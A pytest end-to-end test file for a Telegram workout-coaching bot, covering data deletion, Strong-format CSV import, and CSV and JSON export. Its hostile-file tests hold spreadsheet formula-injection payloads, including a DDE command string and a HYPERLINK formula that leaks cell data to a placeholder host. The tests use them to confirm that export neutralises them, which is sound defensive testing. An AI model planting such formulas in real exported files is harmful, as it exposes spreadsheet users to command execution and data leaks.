"""Owning your data: deleting everything (export and import come beside it)."""

from __future__ import annotations

import csv
import io
import json
import logging
import re
from datetime import date, timedelta
from pathlib import Path

import pytest
from sqlalchemy import func, or_, select

from bot.core.catalogue import lookup
from bot.core.message_length import MAX_MESSAGE_CHARS, message_length
from bot.core.profile import Goal, Weekday
from bot.core.transfer.export_csv import STRONG_COLUMNS
from bot.core.transfer.formula_cells import FORMULA_STARTS
from bot.core.transfer.import_csv import (
    MAX_IMPORT_BYTES,
    HistoryFull,
    ImportFailure,
    ImportProblem,
)
from bot.emulator import BotApiEmulator, ChatUser
from bot.services import progress
from bot.storage.database import create_engine
from bot.storage.models import Base
from bot.telegram import messages
from bot.telegram.context import CoachApplication
from bot.telegram.downloads import CHUNK_BYTES
from bot.telegram.i18n import tr
from tests.e2e.conftest import BotRunner, FakeClock
from tests.e2e.handled import Replies, all_handled, due_reminders_sent
from tests.support.onboarding import (
    Patient,
    answer_bodyweight,
    onboard,
    reach_bodyweight,
    reach_reminder_time,
)

App = CoachApplication
SETTINGS_HEADING = tr("onboarding.settings_menu").split("\n", 1)[0]


async def _rows_mentioning(database_url: str, user_id: int) -> dict[str, int]:
    """For every table, how many rows hold the person's id in an id column (a number) or key."""
    engine = create_engine(database_url)
    found: dict[str, int] = {}
    try:
        async with engine.connect() as connection:
            for table in Base.metadata.sorted_tables:
                conditions = [
                    column == user_id
                    for column in table.columns
                    if column.name in {"id", "user_id", "chat_id"}
                    and column.type.python_type is int
                ]
                if table.name == "ptb_conversations":
                    conditions.append(table.c.key.contains(str(user_id)))
                if not conditions:
                    continue  # nothing in it names a person (the running instances)
                query = select(func.count()).select_from(table).where(or_(*conditions))
                found[table.name] = int(await connection.scalar(query) or 0)
    finally:
        await engine.dispose()
    return found


async def test_delete_me_leaves_nothing_and_stops_reminders(
    emulator: BotApiEmulator, coach: App, clock: FakeClock, database_url: str, replies: Replies
) -> None:
    user = emulator.user(701)
    await onboard(user, reminder="10:01", timezone="UTC")
    await user.send_text("/today")
    await replies(user)
    await user.send_text("hip thrust 3x10 @ 60")
    await user.wait_for(lambda m: m.text.startswith("✅"))
    await replies(user)
    for said in ("my knee hurts", "/readiness off", "/travel bands 7"):
        await user.send_text(said)
        await replies(user)
    await user.send_text("/settings")  # leaves a conversation open mid-way
    await user.next_message()
    stored = await _rows_mentioning(database_url, 701)
    assert all(
        stored[name] for name in ("readiness_answers", "coaching_switches", "travel_periods")
    )

    await user.send_text("/delete_me")
    question = await user.wait_for(lambda m: m.text == tr("data.delete_confirm"))
    await user.press(tr("data.button_delete_everything"), message=question)
    assert (await user.next_message()).text == tr("data.deleted")
    # The person's state is written when the update's handling ends, after the reply.
    await all_handled(emulator, coach)
    remaining = await _rows_mentioning(database_url, 701)
    assert remaining == dict.fromkeys(remaining, 0)
    clock.advance(minutes=2)
    await due_reminders_sent(coach)
    assert not [
        m for m in user.messages if m.text.startswith(tr("reminders.workout_reminder_title"))
    ]
    await user.send_text("/plan")
    assert (await user.next_message()).text == tr("general.need_profile")


async def test_onboarding_again_right_after_delete_me_keeps_every_answer(
    emulator: BotApiEmulator, start_bot: BotRunner
) -> None:
    """PTB writes to its persistence on a timer of its own, once a second: an erase left to
    that write lands whenever it comes, on the answers given since, and the person's last
    answer fails on a draft missing the earlier ones. Here the timer fires after the
    training questions, and a new instance takes the rest, reading what the database holds
    (as every update does on PostgreSQL, and a restarted bot on SQLite)."""
    user = emulator.user(703)
    async with start_bot() as coach:
        await onboard(user)
        await user.send_text("/delete_me")
        question = await user.wait_for(lambda m: m.text == tr("data.delete_confirm"))
        await user.press(tr("data.button_delete_everything"), message=question)
        assert (await user.next_message()).text == tr("data.deleted")
        await reach_reminder_time(user, goal=Goal.STRENGTH)
        await all_handled(emulator, coach)
        await coach.update_persistence()
    async with start_bot():
        question = await reach_bodyweight(user)
        await answer_bodyweight(Patient(user), question, {"bodyweight": "70"})
        await user.send_text("/settings")
        summary = await user.wait_for(lambda m: m.text.startswith(SETTINGS_HEADING))
    assert tr("general.internal_error") not in [m.text for m in user.messages]
    assert messages.goal_labels()[Goal.STRENGTH] in summary.text


async def test_keeping_the_data_deletes_nothing(
    emulator: BotApiEmulator, coach: App, database_url: str
) -> None:
    user = emulator.user(702)
    await onboard(user)
    await user.send_text("/delete_me")
    await user.next_message()
    await user.press(tr("data.button_keep_my_data"))
    assert (await user.next_message()).text == tr("data.not_deleted")
    await user.send_text("/plan")
    assert "Your training week" in (await user.next_message()).text


FIXTURES = Path(__file__).parent.parent / "core" / "fixtures"


async def _history_text(user: ChatUser, exercise: str = "") -> str:
    await user.send_text(f"/history {exercise}".strip())
    return (await user.wait_for(lambda m: m.text.startswith(("Recent", "No logs")))).text


async def test_import_a_strong_file_once_then_export_it(
    emulator: BotApiEmulator, coach: App, clock: FakeClock
) -> None:
    user = emulator.user(703)
    await onboard(user, timezone="UTC")
    data = (FIXTURES / "strong.csv").read_bytes()
    await user.send_document("strong.csv", data, "text/csv")
    done = await user.wait_for(lambda m: m.text.startswith(("✅", "I couldn't")))
    assert done.text.startswith("✅ Imported"), done.text
    thrust = lookup("hip thrust")
    assert thrust is not None
    assert "100 kg" in await _history_text(user, "hip thrust")

    await user.send_document("strong.csv", data, "text/csv")
    again = await user.wait_for(lambda m: m.text == tr("data.import_nothing_new"))
    assert again.text == tr("data.import_nothing_new")

    await user.send_text("/export")
    exported = await user.wait_for(lambda m: m.document is not None)
    assert exported.document is not None
    assert exported.document.filename.endswith("-kg.csv")
    rows = list(csv.reader(io.StringIO(exported.document.data.decode())))
    assert rows[0] == list(STRONG_COLUMNS)
    assert any(row[3] == thrust.name and row[5:7] == ["100", "8"] for row in rows[1:])


async def test_a_bad_file_names_the_line_and_imports_nothing(
    emulator: BotApiEmulator, coach: App, clock: FakeClock
) -> None:
    user = emulator.user(704)
    await onboard(user, timezone="UTC")
    bad = (FIXTURES / "strong_bad_number.csv").read_bytes()
    await user.send_document("bad.csv", bad, "text/csv")
    reply = await user.wait_for(lambda m: m.text.startswith("I couldn't"))
    assert re.search(r"\(line \d+", reply.text), reply.text
    assert "Nothing was imported" in reply.text
    assert await _history_text(user) == tr("workouts.history_empty")
    await user.send_document("photo.png", b"\x89PNG", "image/png")
    assert (await user.next_message()).text == tr("data.import_not_csv")


async def test_export_json_holds_the_whole_account(
    emulator: BotApiEmulator, coach: App, clock: FakeClock, replies: Replies
) -> None:
    user = emulator.user(705)
    await onboard(user, timezone="UTC", bodyweight="70")
    await user.send_text("/today")
    await replies(user)
    await user.send_text("hip thrust 3x10 @ 60")
    await user.wait_for(lambda m: m.text.startswith("✅"))
    await replies(user)
    for said in ("my knee hurts", "/readiness off", "/travel bands 7"):
        await user.send_text(said)
        await replies(user)
    await user.send_text("/export json")
    sent = await user.wait_for(lambda m: m.document is not None)
    assert sent.document is not None
    account = json.loads(sent.document.data)
    assert account["readiness"] == [
        {"date": "2026-11-30", "sleep": 2, "soreness": 1, "pain": "knee"}
    ]
    assert account["switches"] == {
        "readiness_check": False,
        "rest_timer": False,
        "skip_button": True,
        "moments": True,
        "app_set_messages": True,
        "avoid": None,
    }
    assert account["travel"] == {"equipment": ["bands"], "until": "2026-12-06"}
    assert account["moved_sessions"] == []
    assert account["profile"]["bodyweight_kg"] == 70
    assert account["profile"]["timezone"] == "UTC"
    assert len(account["plan"]["days"]) == 7
    assert [log["sets"][0] for log in account["logs"]] == [
        {"reps": 10, "weight": 60.0, "unit": "kg"}
    ]
    assert {reminder["kind"] for reminder in account["reminders"]} >= {"workout", "nutrition"}


async def test_progress_and_stats_without_data_say_how_to_get_some(
    emulator: BotApiEmulator, coach: App
) -> None:
    user = emulator.user(706)
    await onboard(user, timezone="UTC")
    await user.send_text("/progress")
    assert (await user.next_message()).text == tr("progress.progress_empty")
    await user.send_text("/stats")
    assert (await user.next_message()).text == tr("progress.stats_empty")


async def test_progress_sends_charts_and_stats_count_sessions(
    emulator: BotApiEmulator, coach: App, clock: FakeClock, replies: Replies
) -> None:
    user = emulator.user(707)
    await onboard(user, timezone="UTC", weekdays=(Weekday.MON, Weekday.THU), days=2)
    for load in (60, 65):
        await user.send_text(f"hip thrust 3x10 @ {load}")
        await user.wait_for(lambda m: m.text.startswith("✅"))
        await replies(user)
        clock.advance(days=3)
    await user.send_text("/progress")
    album = await user.wait_for(lambda m: m.photo is not None)
    assert album.photo is not None
    assert album.photo.data.startswith(b"\x89PNG")
    await replies(user)
    await user.send_text("/progress hip thrust")
    single = await user.wait_for(lambda m: m.photo is not None)
    assert single.text.startswith("hip thrust")
    await user.send_text("/stats")
    stats = await user.wait_for(lambda m: m.text.startswith("📊"))
    assert "Total: 6 sets, 3,750 kg lifted" in stats.text


# --- Hostile and big files ----------------------------------------------------------------------


def _strong_file(rows: list[tuple[str, str]], sets_each: int = 1) -> bytes:
    """A Strong export of (date and time, exercise name) rows, `sets_each` sets of each."""
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\n")
    writer.writerow(STRONG_COLUMNS)
    for when, name in rows:
        for order in range(1, sets_each + 1):
            writer.writerow((when, "Legs", "1h", name, order, 60, 8, 0, 0, "", "", ""))
    return out.getvalue().encode()


async def _import(user: ChatUser, data: bytes, filename: str = "strong.csv") -> str:
    await user.send_document(filename, data, "text/csv")
    replies = ("✅", "I couldn't", "Everything in", tr("general.internal_error"))
    return (await user.wait_for(lambda m: m.text.startswith(replies))).text


async def _export(user: ChatUser, command: str = "/export") -> bytes:
    await user.send_text(command)
    sent = await user.wait_for(lambda m: m.document is not None)
    assert sent.document is not None
    return sent.document.data


HOSTILE_NAMES = [
    "=cmd|' /C calc'!A0",
    "+SUM(A1:A9)",
    "@SUM(1)",
    '=HYPERLINK("http://example.com/?leak="&A1,"Open")',
    "-2+3+cmd|' /C calc'!A0",
    "Sled push",
]


async def test_formula_names_are_exported_as_text_and_round_trip_exactly(
    emulator: BotApiEmulator, coach: App, clock: FakeClock
) -> None:
    user = emulator.user(708)
    await onboard(user, timezone="UTC")
    done = await _import(user, _strong_file([("2026-11-20 18:00:00", n) for n in HOSTILE_NAMES]))
    assert done.startswith("✅ Imported 1 sessions and 6 sets"), done

    exported = await _export(user)

    rows = list(csv.reader(io.StringIO(exported.decode(), newline="")))[1:]
    assert [row[3] for row in rows] == [f"'{name}" for name in HOSTILE_NAMES[:-1]] + ["Sled push"]
    assert not [cell for row in rows for cell in row if cell.startswith(FORMULA_STARTS)]
    # Coach's export, imported by someone else and exported again, is the same file.
    other = emulator.user(709)
    await onboard(other, timezone="UTC")
    assert (await _import(other, exported)).startswith("✅ Imported 1 sessions and 6 sets")
    assert await _export(other) == exported


async def test_control_characters_are_removed_from_imported_names(
    emulator: BotApiEmulator, coach: App, clock: FakeClock
) -> None:
    user = emulator.user(710)
    await onboard(user, timezone="UTC")
    names = ["glute\x00kick", "sled\x1b[31m push\x7f", "\x00\x85"]
    data = _strong_file([("2026-11-20 18:00:00", name) for name in names[:2]])

    done = await _import(user, data)

    assert done.startswith("✅ Imported 1 sessions and 2 sets"), done
    assert done.endswith(
        "Kept as your own exercises (no match in my catalogue): glutekick, sled[31m push"
    )
    history = await _history_text(user)
    assert "• glutekick: 1 × 8 @ 60 kg" in history
    assert "• sled[31m push: 1 × 8 @ 60 kg" in history
    # A name with nothing left is a row error, as a missing one is.
    empty = await _import(user, _strong_file([("2026-11-21 18:00:00", names[2])]))
    assert empty == messages.format_import_failure(
        ImportFailure(2, ImportProblem.NO_EXERCISE_NAME, "Exercise Name")
    )


@pytest.mark.parametrize("declared", [100, None], ids=["declares-100-bytes", "declares-no-size"])
async def test_a_document_that_lies_about_its_size_is_refused_at_the_cap(
    emulator: BotApiEmulator,
    coach: App,
    clock: FakeClock,
    caplog: pytest.LogCaptureFixture,
    declared: int | None,
) -> None:
    user = emulator.user(711)
    await onboard(user, timezone="UTC")
    # Far more than the cap, and than the sockets between the emulator and the bot can hold
    # (kernels grow a receive buffer up to megabytes), so that taking it all would show.
    data = _strong_file([]) + b"2026-11-20 18:00:00," * (40_000_000 // 20)
    caplog.set_level(logging.INFO, logger="bot.telegram.downloads")

    await user.send_document("strong.csv", data, "text/csv", declared_size=declared)

    assert (await user.next_message()).text == tr("data.import_too_big")
    # The bot read the cap and at most a chunk more (it says so in its log).
    [(read, limit, _)] = [r.args for r in caplog.records if r.name == "bot.telegram.downloads"]
    assert limit == MAX_IMPORT_BYTES < read <= MAX_IMPORT_BYTES + CHUNK_BYTES
    assert emulator.file_bytes_served < len(data) // 2
    await user.send_text("/history")
    assert (await user.next_message()).text == tr("workouts.history_empty")


async def test_a_big_history_shows_its_newest_sets_and_exports_whole(
    emulator: BotApiEmulator, coach: App, clock: FakeClock
) -> None:
    user = emulator.user(712)
    await onboard(user, timezone="UTC")
    # 130 days of 12 exercises with long names: more sets than an import stores at once,
    # more days than an export reads at once, more text than a message holds.
    names = [f"Exercise {n:02} " + "with a long name " * 5 for n in range(12)]
    days = [date(2026, 1, 1) + timedelta(days=n) for n in range(130)]
    rows = [(f"{day} 18:00:00", name) for day in days for name in names]

    done = await _import(user, _strong_file(rows))

    assert done.startswith("✅ Imported 130 sessions and 1,560 sets"), done
    history = await _history_text(user)
    assert message_length(history) <= MAX_MESSAGE_CHARS
    newest = days[-1].strftime("%a %d %b %Y")
    assert history.split("\n")[2:4] == [newest, f"• {names[0].strip()}: 1 × 8 @ 60 kg"]
    shown = history.count("\n• ")
    assert history.endswith(tr("workouts.history_more", count=5 * 12 - shown))
    exported = list(csv.reader(io.StringIO((await _export(user)).decode(), newline="")))
    assert [(row[0][:10], row[3]) for row in exported[1:]] == [
        (day[:10], name.strip()) for day, name in rows
    ]
    account = json.loads(await _export(user, "/export json"))
    assert [(log["date"], log["exercise"]) for log in account["logs"]] == [
        (day[:10], name.strip()) for day, name in rows
    ]


async def test_a_reply_too_long_for_telegram_is_cut_not_lost(
    emulator: BotApiEmulator, coach: App, clock: FakeClock
) -> None:
    user = emulator.user(713)
    await onboard(user, timezone="UTC")
    # The import's reply lists 20 exercises it kept as the person's own: 4,100 characters.
    names = [f"{n:02} " + "x" * 197 for n in range(20)]

    done = await _import(user, _strong_file([("2026-11-20 18:00:00", n) for n in names]))

    assert done.startswith("✅ Imported 1 sessions and 20 sets"), done
    assert done.endswith("…")
    assert message_length(done) == MAX_MESSAGE_CHARS


async def test_an_import_that_would_pass_the_history_cap_stores_nothing(
    emulator: BotApiEmulator, coach: App, clock: FakeClock, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(progress, "MAX_HISTORY_SETS", 10)
    user = emulator.user(714)
    await onboard(user, timezone="UTC")
    first = _strong_file([("2026-11-20 18:00:00", "Sled push")], sets_each=8)
    assert (await _import(user, first)).startswith("✅ Imported 1 sessions and 8 sets")

    second = _strong_file([("2026-11-21 18:00:00", "Sled pull")], sets_each=3)
    refused = await _import(user, second)

    assert refused == messages.format_history_full(HistoryFull(stored=8, adding=3))
    assert "Sled pull" not in await _history_text(user)
    assert await _import(user, first) == tr("data.import_nothing_new")


async def test_two_workouts_of_a_file_with_the_same_time_and_sets_are_stored_once(
    emulator: BotApiEmulator, coach: App, clock: FakeClock
) -> None:
    user = emulator.user(715)
    await onboard(user, timezone="UTC")
    header = ",".join(STRONG_COLUMNS)
    row = '2026-11-20 18:00:00,"{title}",1h,"Sled push",1,60,8,0,0,"","",'
    data = "\n".join([header, row.format(title="Legs"), row.format(title="Legs again"), ""])

    done = await _import(user, data.encode())

    assert done.startswith("✅ Imported 1 sessions and 1 sets"), done
    assert "• Sled push: 1 × 8 @ 60 kg" in await _history_text(user)
